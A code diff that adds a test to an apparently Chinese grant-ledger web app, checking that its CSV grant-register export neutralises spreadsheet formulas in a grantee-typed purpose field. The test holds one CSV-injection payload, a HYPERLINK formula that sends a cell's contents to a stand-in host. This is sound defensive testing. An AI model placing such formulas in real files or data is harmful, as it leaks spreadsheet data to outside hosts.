@@ -97,3 +97,22 @@ def test_the_grant_register_follows_each_request_to_its_use_report(client, audit
     rows = list(csv.DictReader(io.StringIO(auditor(
         f"/api/v1/reports/grant-register?from=2026-01-01&to={today}&format=csv").get_data(as_text=True))))
     assert [(r["id"], r["reported_on"], r["returned"]) for r in rows if r["id"] == "1"] == [("1", today, "0.00")]
+
+
+def test_report_csvs_never_hand_a_spreadsheet_a_formula(client, auditor, api_token):
+    """A grantee types a purpose that Excel or WPS would run; the register's CSV gives it as text."""
+    from fund_ledger.services.ledger import local_today
+
+    zhuren = {"Authorization": f"Bearer {api_token('zhuren')}"}
+    funds = client.get("/api/v1/funds", headers=zhuren).get_json()["items"]
+    orgs = auditor("/api/v1/organisations").get_json()["items"]
+    evil = '=HYPERLINK("http://x.invalid/?"&A1,"点击")'
+    created = client.post("/api/v1/disbursements", headers=zhuren, json={
+        "organisation_id": next(o["id"] for o in orgs if o["name"] == "筑仁成长公益服务中心"),
+        "fund_id": next(f["id"] for f in funds if f["code"] == "AILILIANG"), "amount": "100.00", "purpose": evil})
+    assert created.status_code == 201, created.get_json()
+    today = local_today().isoformat()
+    rows = list(csv.DictReader(io.StringIO(auditor(
+        f"/api/v1/reports/grant-register?from=2026-01-01&to={today}&format=csv").get_data(as_text=True))))
+    assert [r["purpose"] for r in rows if r["id"] == str(created.get_json()["id"])] == ["'" + evil]
+    assert all(not r["requested"].startswith("'") for r in rows)  # our own numbers stay numbers
